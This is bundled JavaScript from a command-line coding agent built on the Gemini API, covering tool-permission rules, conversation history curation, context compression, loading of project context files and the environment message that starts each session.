    const source = (tier) => ({ file: settings.source, line: 1, column: 1, tier });
    const rules = [];
    for (const [server, config] of Object.entries(settings.mcpServers)) {
        if (config.trust !== true)
            continue;
        rules.push({
            id: `settings:trust:${server}`,
            mcpName: server,
            decision: 'allow',
            priority: TRUSTED_SERVER_PRIORITY,
            effectivePriority: policy_types/* TIER_BASE */.H.default + TRUSTED_SERVER_PRIORITY / 1000,
            source: source('default'),
        });
    }
    const commands = (settings.excludeTools ?? [])
        .filter((entry) => (0,tool_selection/* toolNameOf */.HT)(entry) === parse_policy/* SHELL_TOOL_NAME */.Wn)
        .map(tool_selection/* toolArgumentOf */.zj)
        .filter((command) => command !== undefined);
    if (commands.length > 0) {
        rules.push({
            id: 'settings:exclude-commands',
            toolNames: [parse_policy/* SHELL_TOOL_NAME */.Wn],
            commandPrefixes: commands,
            decision: 'deny',
            priority: EXCLUDED_COMMAND_PRIORITY,
            effectivePriority: policy_types/* TIER_BASE */.H.admin + EXCLUDED_COMMAND_PRIORITY / 1000,
            denyMessage: `The settings exclude these commands: ${commands.join(', ')}.`,
            source: source('admin'),
        });
    }
    return rules;
}
function describeFile(file) {
    const count = `${file.ruleCount} rule${file.ruleCount === 1 ? '' : 's'}`;
    return `${file.file} (${file.tier}, ${count})`;
}


/***/ }),

/***/ 80119:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  _: () => (/* binding */ policyContext),
  I: () => (/* binding */ startAgent)
});

;// CONCATENATED MODULE: ./src/agent/confirmer.ts
const allowAllConfirmer = {
    confirm: () => Promise.resolve({ decision: 'allow', decided_by: 'allow-all' }),
};
const denyAllConfirmer = {
    confirm: () => Promise.resolve({
        decision: 'deny',
        reason: 'Every tool call is denied in this run.',
        decided_by: 'deny-all',
    }),
};

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
var node = __webpack_require__(67964);
// EXTERNAL MODULE: ./src/model/errors.ts
var errors = __webpack_require__(87206);
// EXTERNAL MODULE: ./src/model/model-choice.ts
var model_choice = __webpack_require__(11106);
// EXTERNAL MODULE: ./src/model/model-table.ts + 1 modules
var model_table = __webpack_require__(90109);
// EXTERNAL MODULE: ./src/platform/errors.ts
var platform_errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/platform/logger.ts
var platform_logger = __webpack_require__(63255);
// EXTERNAL MODULE: ./src/agent/budgets.ts
var budgets = __webpack_require__(44407);
;// CONCATENATED MODULE: ./src/agent/history.ts
/** A part with nothing in it (streams sometimes send `{}` or `{text: ""}` as a keep-alive). */
function isEmptyPart(part) {
    if (part === undefined)
        return true;
    const keys = Object.keys(part).filter((key) => key !== 'thoughtSignature');
    if (keys.length === 0)
        return true;
    return keys.every((key) => key === 'text' || key === 'thought') && part.text === '';
}
/** A text part that is only text: safe to merge with a neighbouring one. */
function isPlainTextPart(part) {
    return (typeof part.text === 'string' &&
        part.thought !== true &&
        part.functionCall === undefined &&
        part.functionResponse === undefined &&
        part.inlineData === undefined &&
        part.fileData === undefined &&
        part.executableCode === undefined &&
        part.codeExecutionResult === undefined);
}
/**
 * The parts of one model response (all its chunks, in order) as they are kept in history:
 * thought parts and empty parts dropped, consecutive text parts merged. A signature carried by a
 * dropped part moves to the next kept part without one (or, failing that, the previous one), so
 * the model still finds it where it expects a signed step.
 */
function curateModelParts(parts) {
    const kept = [];
    let orphanSignature;
    const adopt = (part) => {
        if (orphanSignature !== undefined && part.thoughtSignature === undefined) {
            const signed = { ...part, thoughtSignature: orphanSignature };
            orphanSignature = undefined;
            return signed;
        }
        return part;
    };
    for (const raw of parts) {
        if (raw === undefined)
            continue;
        if (raw.thought === true || isEmptyPart(raw)) {
            if (raw.thoughtSignature !== undefined)
                orphanSignature ??= raw.thoughtSignature;
            continue;
        }
        const part = adopt({ ...raw });
        const last = kept[kept.length - 1];
        const bothSigned = last?.thoughtSignature !== undefined && part.thoughtSignature !== undefined;
        if (last && isPlainTextPart(last) && isPlainTextPart(part) && !bothSigned) {
            const merged = { ...last, text: `${last.text ?? ''}${part.text ?? ''}` };
            const signature = last.thoughtSignature ?? part.thoughtSignature;
            if (signature !== undefined)
                merged.thoughtSignature = signature;
            kept[kept.length - 1] = merged;
        }
        else {
            kept.push(part);
        }
    }
    if (orphanSignature !== undefined) {
        for (let i = kept.length - 1; i >= 0; i--) {
            const part = kept[i];
            if (part && part.thoughtSignature === undefined) {
                kept[i] = { ...part, thoughtSignature: orphanSignature };
                break;
            }
        }
    }
    return kept;
}
/** A model content that can be replayed: has parts, none empty, none a thought. */
function isValidModelContent(content) {
    const parts = content.parts ?? [];
    if (parts.length === 0)
        return false;
    return parts.every((part) => !isEmptyPart(part) && part.thought !== true);
}
/**
 * History fit for a request: model contents cleaned of thoughts and empty parts, and model
 * contents left with nothing dropped entirely. User contents pass through untouched.
 */
function curateHistory(history) {
    const curated = [];
    for (const content of history) {
        if (content.role !== 'model') {
            curated.push(content);
            continue;
        }
        const parts = curateModelParts(content.parts ?? []);
        if (parts.length > 0)
            curated.push({ role: 'model', parts });
    }
    return curated;
}
function functionCallsOf(content) {
    return (content.parts ?? []).flatMap((part) => (part.functionCall ? [part.functionCall] : []));
}
function hasFunctionCall(content) {
    return (content.parts ?? []).some((part) => part.functionCall !== undefined);
}
/** A user content answering function calls (tool results). */
function isFunctionResponseContent(content) {
    return (content.role === 'user' &&
        (content.parts ?? []).some((part) => part.functionResponse !== undefined));
}
/** A user content that is a message of its own, not tool results: a safe start for a history. */
function isPlainUserContent(content) {
    return (content.role === 'user' &&
        (content.parts ?? []).length > 0 &&
        !isFunctionResponseContent(content));
}
/** The visible text of some parts (thoughts excluded), in order. */
function textOfParts(parts) {
    return parts
        .filter((part) => isPlainTextPart(part))
        .map((part) => part.text ?? '')
        .join('');
}
/** Size in characters of a content as sent on the wire; the unit compression splits by. */
function contentSize(content) {
    return JSON.stringify(content).length;
}
function userText(text) {
    return { role: 'user', parts: [{ text }] };
}
function modelText(text) {
    return { role: 'model', parts: [{ text }] };
}
/** A copy of a user content with one more text part at the end. */
function withAppendedText(content, text) {
    return { ...content, parts: [...(content.parts ?? []), { text }] };
}

;// CONCATENATED MODULE: ./src/agent/thought.ts
const BOLD = '**';
/**
 * Splits a thought summary into a subject and a description. Thinking models title each summary
 * in bold (`**Checking the tests**\n\nI should…`); the first bold span is the subject and the
 * rest, with that span removed, is the description. Without a complete bold span the whole text
 * is the description, so nothing the model thought is lost.
 */
function parseThought(rawText) {
    const start = rawText.indexOf(BOLD);
    if (start === -1)
        return { subject: '', description: rawText.trim() };
    const end = rawText.indexOf(BOLD, start + BOLD.length);
    if (end === -1)
        return { subject: '', description: rawText.trim() };
    return {
        subject: rawText.slice(start + BOLD.length, end).trim(),
        description: (rawText.slice(0, start) + rawText.slice(end + BOLD.length)).trim(),
    };
}

;// CONCATENATED MODULE: ./src/agent/chat.ts
/**
 * The conversation with the model: the curated history and one request/response exchange at a
 * time. It knows the wire shape (system instruction, tools, generation config) and turns a
 * response into what the session needs — thoughts, text, function calls, finish reason, usage —
 * while only valid, thought-free content enters the history.
 */






/** Finish reasons meaning the response was withheld by a content filter. */
const BLOCKED_FINISH_REASONS = {
    SAFETY: 'potentially unsafe content',
    RECITATION: 'recitation of existing material',
    BLOCKLIST: 'forbidden terms',
    PROHIBITED_CONTENT: 'prohibited content',
    SPII: 'sensitive personal information',
    IMAGE_SAFETY: 'an unsafe image',
    IMAGE_PROHIBITED_CONTENT: 'a prohibited image',
    IMAGE_RECITATION: 'recitation of an existing image',
};
/** Finish reasons meaning the model tried to call a tool and got it wrong. */
const MALFORMED_FINISH_REASONS = new Set([
    'MALFORMED_FUNCTION_CALL',
    'UNEXPECTED_TOOL_CALL',
]);
/** A readable explanation when a response (or the prompt) was blocked, else undefined. */
function blockedMessage(response) {
    if (response.blockReason) {
        const detail = response.blockReasonMessage ? `: ${response.blockReasonMessage}` : '';
        return `The model refused the request: the prompt was blocked (${response.blockReason})${detail}.`;
    }
    const reason = response.finishReason;
    const description = reason === undefined ? undefined : BLOCKED_FINISH_REASONS[reason];
    if (reason === undefined || description === undefined)
        return undefined;
    const detail = response.finishMessage ? ` ${response.finishMessage}` : '';
    return `The model's response was blocked for ${description} (finish reason ${reason}).${detail}`;
}
function isMalformedCall(response) {
    return response.finishReason !== undefined && MALFORMED_FINISH_REASONS.has(response.finishReason);
}
class Chat {
    options;
    history;
    constructor(options) {
        this.options = options;
        this.history = [...(options.history ?? [])];
    }
    get model() {
        return this.options.model;
    }
    /** Sends the following requests to another model, with that model's generation settings. */
    switchModel(model, generationConfig) {
        this.options = { ...this.options, model, generationConfig };
    }
    /** A deep copy: callers cannot change the history by accident. */
    getHistory() {
        return structuredClone(this.history);
    }
    setHistory(history) {
        this.history = [...history];
    }
    /** Appends a user content (the prompt, tool results, a note). */
    addUserContent(content) {
        this.history.push({ ...content, role: 'user' });
    }
    /** The last content; the session appends notes to it before the next request. */
    lastContent() {
        return this.history[this.history.length - 1];
    }
    replaceLastContent(content) {
        if (this.history.length === 0)
            throw new Error('replaceLastContent on an empty history');
        this.history[this.history.length - 1] = content;
    }
    /** The request for the current history, exactly as it goes to the content generator. */
    buildRequest(options) {
        const config = {
            ...this.options.generationConfig,
            systemInstruction: this.options.systemInstruction,
            ...(options.declarations.length > 0
                ? { tools: [{ functionDeclarations: options.declarations }] }
                : {}),
            abortSignal: options.signal,
        };
        // A copy of the list: the generator may keep the request (recording) while history grows.
        return { model: this.options.model, contents: [...this.history], config };
    }
    /** Sends the history, reads the whole response and appends its valid content to the history. */
    async send(options) {
        const request = this.buildRequest(options);
        const collector = new ResponseCollector();
        if (this.options.streaming) {
            const stream = await this.options.generator.generateContentStream(request, options.promptId);
            for await (const chunk of stream)
                collector.add(chunk);
        }
        else {
            collector.add(await this.options.generator.generateContent(request, options.promptId));
        }
        const response = collector.finish();
        if (response.content)
            this.history.push(response.content);
        return response;
    }
}
/** Gathers the chunks of one response. */
class ResponseCollector {
    parts = [];
    items = [];
    finishReason;
    finishMessage;
    blockReason;
    blockReasonMessage;
    usage;
    add(chunk) {
        const candidate = chunk.candidates?.[0];
        for (const part of candidate?.content?.parts ?? []) {
            this.parts.push(part);
            if (part.thought === true) {
                if (part.text)
                    this.items.push({ kind: 'thought', thought: parseThought(part.text) });
            }
            else if (isPlainTextPart(part) && part.text) {
                this.addText(part.text);
            }
        }
        if (candidate?.finishReason) {
            this.finishReason = candidate.finishReason;
            this.finishMessage = candidate.finishMessage;
        }
        if (chunk.promptFeedback?.blockReason) {
            this.blockReason = chunk.promptFeedback.blockReason;
            this.blockReasonMessage = chunk.promptFeedback.blockReasonMessage;
        }
        if (chunk.usageMetadata)
            this.usage = chunk.usageMetadata;
    }
    addText(text) {
        const last = this.items[this.items.length - 1];
        if (last?.kind === 'text')
            last.text += text;
        else
            this.items.push({ kind: 'text', text });
    }
    finish() {
        const parts = curateModelParts(this.parts);
        const content = parts.length > 0 ? { role: 'model', parts } : undefined;
        return {
            items: this.items,
            content,
            functionCalls: content ? functionCallsOf(content) : [],
            text: textOfParts(parts),
            finishReason: this.finishReason,
            finishMessage: this.finishMessage,
            blockReason: this.blockReason,
            blockReasonMessage: this.blockReasonMessage,
            usage: this.usage,
        };
    }
}
/**
 * Why a failed request ends the session, in words: a model the API does not serve, rejected
 * credentials or another failure. With the model's `choice`, the words say where it was set.
 */
function describeModelError(error, choice) {
    if (error instanceof errors/* ModelRequestError */.j) {
        const status = error.status === undefined ? '' : ` (HTTP ${error.status})`;
        if (choice !== undefined && error.isModelNotFound) {
            return { reason: 'model_not_found', message: (0,model_choice/* modelNotFoundMessage */.ID)(choice, error) };
        }
        if (choice !== undefined && error.isQuotaExhausted) {
            return { reason: 'model_error', message: (0,model_choice/* quotaExhaustedMessage */.pw)(choice, error) };
        }
        // Already one line saying what was tried and what to check (model-endpoint.ts).
        if (error.kind === 'unreachable')
            return { reason: 'model_error', message: error.message };
        if (error.isAuthError) {
            return {
                reason: 'auth_error',
                message: `The model rejected the credentials${status}: ${error.message}`,
            };
        }
        return {
            reason: 'model_error',
            message: `The model request failed${status}: ${error.message}`,
        };
    }
    return { reason: 'model_error', message: `The model request failed: ${(0,platform_errors/* errorMessage */.gJ)(error)}` };
}
/**
 * How a response without function calls ends the session: an invalid call is a model error;
 * otherwise the session is complete, with warnings when the answer is empty or ended oddly.
 */
function judgeFinalAnswer(response) {
    if (isMalformedCall(response)) {
        return {
            error: `The model produced an invalid function call (finish reason ${response.finishReason ?? 'unknown'}).`,
            warnings: [],
        };
    }
    const warnings = [];
    const reason = response.finishReason;
    if (reason !== undefined && reason !== node/* FinishReason */.eD.STOP && reason !== node/* FinishReason */.eD.MAX_TOKENS) {
        warnings.push({
            code: 'other',
            message: `The model ended its answer with finish reason ${reason}.`,
        });
    }
    if (response.text.trim() === '') {
        warnings.push({
            code: 'invalid_response',
            message: 'The model finished without a final answer.',
        });
    }
    return { warnings };
}

;// CONCATENATED MODULE: ./src/agent/compression.ts


const DEFAULT_COMPRESSION_THRESHOLD = 0.7;
const DEFAULT_PRESERVE_FRACTION = 0.3;
/** The model's reply after the summary, so the history keeps alternating user/model. */
const COMPRESSION_ACK = 'Got it. Thanks for the additional context!';
const DEFAULT_TOKEN_LIMIT = 1_048_576;
/** The context window of a model, in tokens; Gemini 2.5 and 3 models take 1,048,576. */
function tokenLimitForModel(model) {
    const name = model.replace(/^models\//, '');
    if (name.startsWith('gemini-1.5-pro'))
        return 2_097_152;
    return DEFAULT_TOKEN_LIMIT;
}
function resolveCompression(model, options = {}) {
    const resolved = {
        tokenLimit: options.tokenLimit ?? tokenLimitForModel(model),
        threshold: options.threshold ?? DEFAULT_COMPRESSION_THRESHOLD,
        preserveFraction: options.preserveFraction ?? DEFAULT_PRESERVE_FRACTION,
    };
    if (!Number.isInteger(resolved.tokenLimit) || resolved.tokenLimit <= 0) {
        throw new platform_errors/* ConfigurationError */.j1(`compression.tokenLimit must be a positive whole number of tokens, but it is ${resolved.tokenLimit}.`);
    }
    if (!(resolved.threshold > 0 && resolved.threshold <= 1)) {
        throw new platform_errors/* ConfigurationError */.j1(`compression.threshold must be a fraction above 0 and at most 1, but it is ${resolved.threshold}.`);
    }
    if (!(resolved.preserveFraction > 0 && resolved.preserveFraction < 1)) {
        throw new platform_errors/* ConfigurationError */.j1(`compression.preserveFraction must be a fraction between 0 and 1, but it is ${resolved.preserveFraction}.`);
    }
    return resolved;
}
function needsCompression(promptTokenCount, options) {
    return promptTokenCount > options.threshold * options.tokenLimit;
}
/**
 * Where the kept tail starts: the first valid start once `1 - preserveFraction` of the history
 * (by characters) lies before it, or else the latest valid start. Undefined when no start leaves
 * at least two contents to summarise.
 */
function findCompressionSplit(history, preserveFraction) {
    const sizes = history.map(contentSize);
    const total = sizes.reduce((sum, size) => sum + size, 0);
    const target = total * (1 - preserveFraction);
    let before = 0;
    let latestValid;
    for (let i = 0; i < history.length; i++) {
        const content = history[i];
        if (content && i >= 2 && isValidTailStart(content)) {
            if (before >= target)
                return i;
            latestValid = i;
        }
        before += sizes[i] ?? 0;
    }
    return latestValid;
}
function isValidTailStart(content) {
    return content.role === 'model' || isPlainUserContent(content);
}
/** The system instruction of the summary request. */
const COMPRESSION_SYSTEM_PROMPT = `You are the memory of a coding agent that works alone in a checked-out repository. Its conversation has grown too long, so everything before this point will be replaced by the summary you write now. After that, the agent will only see your summary and the most recent messages, so anything you leave out is lost.

Write a complete, precise snapshot of the work so far, in this structure:

<state_snapshot>
  <task>The task the agent was given, with every requirement and constraint, in full.</task>
  <key_facts>What has been learned: conventions of the project, how to build and test it, decisions made and why, dead ends to avoid.</key_facts>
  <files>Every file read, created, changed or deleted, with its path and what matters about it (what was changed, what remains to change).</files>
  <recent_actions>The last steps taken and their outcomes, including failing commands and their errors.</recent_actions>
  <plan>The remaining steps, marked [DONE], [IN PROGRESS] or [TODO].</plan>
</state_snapshot>

Be specific: exact paths, names, commands, error messages. Leave out pleasantries and anything already done that no longer matters. Reply with the snapshot only.`;
const COMPRESSION_REQUEST = 'Write the <state_snapshot> of our work so far now.';
/**
 * Summarises the older history with one request (no tools) and returns the new history. Throws
 * when it cannot help (no valid split, an empty summary, nothing saved); the caller carries on
 * uncompressed.
 */
async function compressHistory(options) {
    const { history } = options;
    const split = findCompressionSplit(history, options.preserveFraction);
    if (split === undefined) {
        throw new Error('no point in the history where it can be split safely');
    }
    const response = await options.generator.generateContent({
        model: options.model,
        contents: summaryRequestContents(history.slice(0, split)),
        config: { systemInstruction: COMPRESSION_SYSTEM_PROMPT, abortSignal: options.signal },
    }, options.promptId);
    const summary = summaryText(response);
    if (summary === '')
        throw new Error('the model returned an empty summary');
    const tail = history.slice(split);
    const head = tail[0]?.role === 'model'
        ? [userText(summary)]
        : [userText(summary), modelText(COMPRESSION_ACK)];
    const compressed = [...head, ...structuredClone(tail)];
    const sizeBefore = history.reduce((sum, content) => sum + contentSize(content), 0);
    const sizeAfter = compressed.reduce((sum, content) => sum + contentSize(content), 0);
    if (sizeAfter >= sizeBefore)
        throw new Error('the summary is not shorter than what it replaces');
    return {
        history: compressed,
        tokensBefore: options.tokensBefore,
        tokensAfterEstimate: Math.ceil(sizeAfter / 4),
        usage: response.usageMetadata,
    };
}
/** The summarised contents plus the request, without two user contents in a row. */
function summaryRequestContents(toSummarise) {
    const contents = structuredClone([...toSummarise]);
    const last = contents[contents.length - 1];
    if (last?.role === 'user') {
        contents[contents.length - 1] = withAppendedText(last, COMPRESSION_REQUEST);
    }
    else {
        contents.push(userText(COMPRESSION_REQUEST));
    }
    return contents;
}
function summaryText(response) {
    const parts = response.candidates?.[0]?.content?.parts ?? [];
    return textOfParts(curateModelParts(parts)).trim();
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
;// CONCATENATED MODULE: ./src/agent/context-files.ts
/**
 * Context files (`GEMINI.md` by default): the project's instructions for the agent, found in every
 * directory from the repository root down to the workspace, plus the user's memory file. They are
 * added to the system instruction, each wrapped in markers naming its path.
 */





const DEFAULT_CONTEXT_FILE_NAME = 'GEMINI.md';
/** Larger files are skipped: they would crowd the task out of the context window. */
const DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
function defaultUserMemoryPath(homeDir = external_node_os_default().homedir()) {
    return external_node_path_default().join(homeDir, '.gemini', DEFAULT_CONTEXT_FILE_NAME);
}
/** Validates the configured names: plain file names, at least one. */
function normalizeContextFileNames(fileNames) {
    const names = fileNames === undefined
        ? [DEFAULT_CONTEXT_FILE_NAME]
        : typeof fileNames === 'string'
            ? [fileNames]
            : [...fileNames];
    if (names.length === 0) {
        throw new platform_errors/* ConfigurationError */.j1('contextFileName must name at least one file, e.g. "GEMINI.md".');
    }
    for (const name of names) {
        if (name.trim() === '' ||
            name.includes('/') ||
            name.includes('\\') ||
            name === '.' ||
            name === '..') {
            throw new platform_errors/* ConfigurationError */.j1(`contextFileName entries must be plain file names such as "GEMINI.md", but got "${name}".`);
        }
    }
    return [...new Set(names)];
}
/** The nearest directory at or above `start` that contains `.git` (a directory or a file). */
async function findGitRoot(start) {
    let dir = external_node_path_default().resolve(start);
    for (;;) {
        if (await exists(external_node_path_default().join(dir, '.git')))
            return dir;
        const parent = external_node_path_default().dirname(dir);
        if (parent === dir)
            return undefined;
        dir = parent;
    }
}
/**
 * The directories searched, top first: from the git root (or, outside a repository, the
 * filesystem root) down to the workspace root.
 */
async function contextDirectories(workspaceRoot) {
    const workspace = external_node_path_default().resolve(workspaceRoot);
    const top = (await findGitRoot(workspace)) ?? external_node_path_default().parse(workspace).root;
    const dirs = [];
    let dir = workspace;
    for (;;) {
        dirs.unshift(dir);
        if (dir === top)
            break;
        const parent = external_node_path_default().dirname(dir);
        if (parent === dir)
            break;
        dir = parent;
    }
    return dirs;
}
/** Finds and reads the user memory file and the project's context files, in that order. */
async function loadContextFiles(options) {
    const logger = options.logger ?? platform_logger/* silentLogger */.qq;
    const names = normalizeContextFileNames(options.fileNames);
    const homeDir = options.homeDir ?? external_node_os_default().homedir();
    const maxBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
    const workspace = external_node_path_default().resolve(options.workspaceRoot);
    const seen = new Set();
    const files = [];
    const add = async (file, source, boundary, shown) => {
        const content = await readContextFile(file, { boundary, maxBytes, logger, seen });
        if (content === undefined)
            return;
        files.push({
            path: file,
            displayPath: shown ?? displayPath(file, source, workspace, homeDir),
            content,
            source,
        });
    };
    const memoryPath = options.userMemoryPath === undefined ? defaultUserMemoryPath(homeDir) : options.userMemoryPath;
    if (memoryPath !== null)
        await add(external_node_path_default().resolve(memoryPath), 'user', undefined);
    for (const file of options.extensionFiles ?? []) {
        await add(file.path, 'extension', await realpathOrUndefined(file.boundary), file.displayPath);
    }
    const dirs = options.contextDirectory === undefined
        ? await contextDirectories(workspace)
        : [external_node_path_default().resolve(options.contextDirectory)];
    // Symlinks in the repository must not pull in files from outside it (a GEMINI.md pointing at
    // a credentials file would put secrets in the prompt).
    const boundary = await realpathOrUndefined(dirs[0] ?? workspace);
    for (const dir of dirs) {
        for (const name of names)
            await add(external_node_path_default().join(dir, name), 'project', boundary);
    }
    return { files, text: formatContextFiles(files) };
}
/** `--- Context from: <path> ---` … `--- End of Context from: <path> ---`, blank-line separated. */
function formatContextFiles(files) {
    return files
        .map((file) => `--- Context from: ${file.displayPath} ---\n${file.content}\n--- End of Context from: ${file.displayPath} ---`)
        .join('\n\n');
}
async function readContextFile(file, options) {
    try {
        const real = await external_node_fs_.promises.realpath(file);
        if (options.seen.has(real))
            return undefined;
        if (options.boundary !== undefined && !isInside(real, options.boundary)) {
            options.logger.warning(`Skipping context file ${file}: it links to ${real}, outside ${options.boundary}.`);
            return undefined;
        }
        const stat = await external_node_fs_.promises.stat(real);
        if (!stat.isFile())
            return undefined;
        if (stat.size > options.maxBytes) {
            options.logger.warning(`Skipping context file ${file}: ${stat.size} bytes is more than the ${options.maxBytes}-byte limit.`);
            return undefined;
        }
        options.seen.add(real);
        const content = (await external_node_fs_.promises.readFile(real, 'utf8')).trim();
        return content === '' ? undefined : content;
    }
    catch (error) {
        const code = error.code;
        if (code !== 'ENOENT' && code !== 'ENOTDIR') {
            options.logger.warning(`Could not read context file ${file}: ${error.message}`);
        }
        return undefined;
    }
}
function displayPath(file, source, workspace, homeDir) {
    if (source === 'user') {
        const home = external_node_path_default().resolve(homeDir);
        return isInside(file, home) ? `~/${toSlashes(external_node_path_default().relative(home, file))}` : file;
    }
    // Project files live in the workspace or one of its ancestors: `GEMINI.md`, `../GEMINI.md`.
    return toSlashes(external_node_path_default().relative(workspace, file));
}
function toSlashes(p) {
    return p.split((external_node_path_default()).sep).join('/');
}
function isInside(child, parent) {
    const relative = external_node_path_default().relative(parent, child);
    return relative === '' || (!relative.startsWith('..') && !external_node_path_default().isAbsolute(relative));
}
async function exists(file) {
    try {
        await external_node_fs_.promises.lstat(file);
        return true;
    }
    catch {
        return false;
    }
}
async function realpathOrUndefined(dir) {
    try {
        return await external_node_fs_.promises.realpath(dir);
    }
    catch {
        return undefined;
    }
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
;// CONCATENATED MODULE: ./src/agent/environment-context.ts
/**
 * The first user message of every session: today's date, the platform, the workspace and its
 * folder structure, in the wording and tree format the Gemini CLI uses, followed by the model's
 * acknowledgement. It spares the model a round of `ls` calls before it can start.
 */



/** The model's reply to the environment message, so the history keeps alternating. */
const ENVIRONMENT_ACK = 'Got it. Thanks for the context!';
const DEFAULT_FOLDER_STRUCTURE_ITEMS = 200;
const TRUNCATED = '...';
/** Shown as `name/...` and never listed: never useful and often huge. */
const ALWAYS_HIDDEN_FOLDERS = new Set(['.git', 'node_modules']);
const ignoreNothing = () => false;
/**
 * A tree of `directory` read breadth first, so the top levels show before the limit is reached.
 * Each folder lists its files, then its subfolders, by name; `...` marks what was left out.
 */
async function getFolderStructure(directory, options = {}) {
    const root = external_node_path_default().resolve(directory);
    const maxItems = options.maxItems ?? DEFAULT_FOLDER_STRUCTURE_ITEMS;
    const isIgnored = options.isIgnored ?? ignoreNothing;
    const rootNode = newNode(external_node_path_default().basename(root));
    const rootEntries = await readEntries(root);
    if (rootEntries === undefined) {
        return `Error: Could not read directory "${root}". Check path and permissions.`;
    }
    const queue = [
        { node: rootNode, dir: root, relative: '' },
    ];
    let count = 0;
    while (queue.length > 0) {
        const next = queue.shift();
        if (!next)
            break;
        const { node, dir, relative } = next;
        const entries = next.node === rootNode ? rootEntries : await readEntries(dir);
        if (entries === undefined)
            continue;
        if (count >= maxItems) {
            node.collapsed = entries.length > 0;
            continue;
        }
        for (const entry of entries) {
            if (entry.isDirectory())
                continue;
            if (count >= maxItems) {
                node.moreFiles = true;
                break;
            }
            if (isIgnored(joinRelative(relative, entry.name), false))
                continue;
            node.files.push(entry.name);
            count++;
        }
        for (const entry of entries) {
            if (!entry.isDirectory())
                continue;
            if (count >= maxItems) {
                node.moreFolders = true;
                break;
            }
            const childRelative = joinRelative(relative, entry.name);
            const child = newNode(entry.name);
            child.collapsed = ALWAYS_HIDDEN_FOLDERS.has(entry.name) || isIgnored(childRelative, true);
            node.folders.push(child);
            count++;
            if (!child.collapsed) {
                queue.push({ node: child, dir: external_node_path_default().join(dir, entry.name), relative: childRelative });
            }
        }
    }
    const lines = [];
    formatChildren(rootNode, '', lines);
    let summary = `Showing up to ${maxItems} items (files + folders).`;
    if (isTruncated(rootNode)) {
        summary += ` Folders or files indicated with ${TRUNCATED} contain more items not shown, were ignored, or the display limit (${maxItems} items) was reached.`;
    }
    return `${summary}\n\n${root}${(external_node_path_default()).sep}\n${lines.join('\n')}`;
}
function newNode(name) {
    return { name, files: [], folders: [], collapsed: false, moreFiles: false, moreFolders: false };
}
async function readEntries(dir) {
    try {
        const entries = await external_node_fs_.promises.readdir(dir, { withFileTypes: true });
        return entries.sort((a, b) => compareNames(a.name, b.name));
    }
    catch {
        return undefined;
    }
}
function compareNames(a, b) {
    return a.localeCompare(b, 'en');
}
function joinRelative(parent, name) {
    return parent === '' ? name : `${parent}/${name}`;
}
function formatChildren(node, indent, lines) {
    const hasFoldersAfter = node.folders.length > 0 || node.moreFolders;
    node.files.forEach((file, i) => {
        const last = i === node.files.length - 1 && !node.moreFiles && !hasFoldersAfter;
        lines.push(`${indent}${last ? '└───' : '├───'}${file}`);
    });
    if (node.moreFiles)
        lines.push(`${indent}${hasFoldersAfter ? '├───' : '└───'}${TRUNCATED}`);
    node.folders.forEach((folder, i) => {
        const last = i === node.folders.length - 1 && !node.moreFolders;
        lines.push(`${indent}${last ? '└───' : '├───'}${folder.name}${(external_node_path_default()).sep}${folder.collapsed ? TRUNCATED : ''}`);
        formatChildren(folder, `${indent}${last ? '    ' : '│   '}`, lines);
    });
    if (node.moreFolders)
        lines.push(`${indent}└───${TRUNCATED}`);
}
function isTruncated(node) {
    return node.collapsed || node.moreFiles || node.moreFolders || node.folders.some(isTruncated);
}
/**
 * Git's own idea of what is ignored (`.gitignore` files at every level, `.git/info/exclude`, the
 * global excludes file), read once. Outside a repository, or without git, nothing is ignored.
 */
async function gitIgnorePredicate(root) {
    const output = await new Promise((resolve) => {
        (0,external_node_child_process_.execFile)('git', [
            '-c',
            'core.fsmonitor=false',
            'ls-files',
            '--others',
            '--ignored',
            '--exclude-standard',
            '--directory',
            '-z',
        ], { cwd: root, timeout: 10_000, maxBuffer: 64 * 1024 * 1024, encoding: 'utf8' }, (error, stdout) => {
            resolve(error ? undefined : stdout);
        });
    });
    if (output === undefined)
        return ignoreNothing;
    const ignored = new Set(output.split('\0').filter((entry) => entry !== ''));
    return (relativePath, isDirectory) => isDirectory ? ignored.has(`${relativePath}/`) : ignored.has(relativePath);
}
/** The text of the first user message. */
async function buildEnvironmentContext(options) {
    const root = external_node_path_default().resolve(options.workspaceRoot);
    const today = new Date((options.now ?? Date.now)()).toLocaleDateString('en-US', {
        weekday: 'long',
        year: 'numeric',
        month: 'long',
        day: 'numeric',
        ...(options.timeZone === undefined ? {} : { timeZone: options.timeZone }),
    });
    const isIgnored = options.isIgnored ?? (await gitIgnorePredicate(root));
    const structure = await getFolderStructure(root, {
        isIgnored,
        ...(options.maxItems === undefined ? {} : { maxItems: options.maxItems }),
    });
    return `This is the Gemini CLI. We are setting up the context for our chat.
Today's date is ${today}.
My operating system is: ${options.platform ?? process.platform}
I'm currently working in the directory: ${root}
Here is the folder structure of the current working directories:

${structure}`.trim();
}
/** The history every session starts with: the environment message and the acknowledgement. */
function initialHistory(environmentText) {
    return [
        { role: 'user', parts: [{ text: environmentText }] },
        { role: 'model', parts: [{ text: ENVIRONMENT_ACK }] },
    ];
}

// EXTERNAL MODULE: ./src/agent/events.ts
var events = __webpack_require__(60944);
;// CONCATENATED MODULE: ./src/agent/loop-detector.ts
/**
 * Notices when the model is stuck: the same tool call again and again, a short cycle of calls
 * repeated, or text that repeats itself. The session warns the model once and stops it the
 * second time, so a stuck run ends early instead of burning its whole budget.
 */
const DEFAULT_LOOP_DETECTION = {
    enabled: true,
    identicalCallThreshold: 5,
    cycleRepeatThreshold: 3,
    maxCyclePeriod: 4,
    textChunkSize: 50,
    textRepeatThreshold: 10,
    identicalResponseThreshold: 3,
